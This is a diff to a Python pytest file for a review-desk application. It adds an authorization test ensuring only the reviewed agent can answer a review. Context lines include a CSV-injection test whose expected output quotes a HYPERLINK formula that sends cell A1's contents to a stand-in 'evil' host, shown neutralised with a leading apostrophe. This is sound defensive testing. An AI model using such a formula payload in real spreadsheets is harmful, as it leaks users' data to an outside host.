@@ -11,8 +11,11 @@ import pytest
 import pytest_asyncio
 
 from db.database import Database
+from desk import NotAllowed
+from desk.reviews.reviewing import answer_review
 from tests.flows import cast
 from tests.flows.acts import filed_and_resolved
+from tests.flows.clients import as_vera
 from tests.flows.panel.browser import Browser, vera_at
 from tests.flows.phone import words
 from tests.flows.scenes import row, status
@@ -100,6 +103,15 @@ async def test_no_part_of_an_answer_to_a_review_is_a_formula_in_its_file(desk: t
     await browser.opens("/reviews/results.csv")
     (line,) = csv.DictReader(io.StringIO(browser.page.removeprefix("\ufeff")))
     assert (line["comment"], line["answer"]) == ("'＝1+1", """ok;'=HYPERLINK("http://evil/?"&A1;"x")""")
+
+
+async def test_only_whose_answers_were_reviewed_answers(desk: tuple[Stage, Browser]) -> None:
+    stage, browser = desk
+    _, at = await _drawn(stage, browser)
+    assert await browser.sends(at, **_marks(browser, "met", "met"), comment="") == "/reviews"
+    with pytest.raises(NotAllowed):
+        async with as_vera(stage) as of_vera:
+            await answer_review(of_vera, int(at.removeprefix("/reviews/")), "It was not me")
 
 
 async def test_scores_are_figures_by_agent_and_criterion(desk: tuple[Stage, Browser]) -> None:
